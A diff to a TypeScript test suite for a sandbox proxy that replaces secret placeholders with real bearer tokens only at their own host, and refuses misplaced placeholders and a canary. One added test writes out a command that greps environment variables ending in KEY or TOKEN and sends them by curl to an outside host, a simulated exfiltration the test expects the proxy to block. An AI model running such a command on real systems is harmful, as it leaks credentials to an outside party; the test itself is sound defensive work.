@@ -30,7 +30,7 @@ beforeAll(async () => {
 bottles:
   a:
     resources: { memory: 256MiB, pids: 128 }
-    env: { PLAIN: visible }
+    env: { PLAIN: visible, TOKEN: { env: BEARER, placeholder: true } }
     egress:
       log: all
       routes:
@@ -81,6 +81,36 @@ describe('secrets of the operator', () => {
       )
       expect(leaks(decoded, SECRETS)).toEqual([slot])
     }
+  })
+
+  it('take the place of the placeholder that a program has from its environment, at their own host alone', async () => {
+    const send = (bottle: string, host: string, given: string) =>
+      whole.exec(
+        bottle,
+        'sh',
+        '-c',
+        `curl -sS --max-time 10 -H "Authorization: Bearer ${given}" https://${host}/x`,
+      )
+    const placeholder = (await whole.exec('a', 'sh', '-c', 'echo $TOKEN')).out.trim()
+    expect(placeholder).toMatch(/^bot_bottle_placeholder_[0-9a-f]{32}$/)
+    up.received()
+    expect((await send('a', 'bearer.test', '$TOKEN')).out).toContain('hello from bearer.test')
+    const received = up.received()
+    expect(leaks(received, SECRETS)).toEqual(['BEARER'])
+    expect(received).not.toContain('placeholder')
+    for (const [bottle, host, given] of [
+      ['a', 'header.test', '$TOKEN'],
+      ['b', 'other.test', placeholder],
+    ] as const)
+      expect((await send(bottle, host, given)).out).toContain('placeholder-misplaced')
+    expect(up.received()).toBe('')
+  })
+
+  it('and a canary that nobody uses: sending it is refused, and the log says so', async () => {
+    const collect = `curl -sS --max-time 10 -G -d "$(env | grep -E '^[A-Z]+_[A-Z]+_(KEY|TOKEN)=')" https://bearer.test/x`
+    up.received()
+    expect((await whole.exec('a', 'sh', '-c', collect)).out).toContain('(rule canary)')
+    expect(up.received()).toBe('')
   })
 
   it('[CRD-10] are in no argument, label, inspection, history, event or file while and after they are applied', async () => {
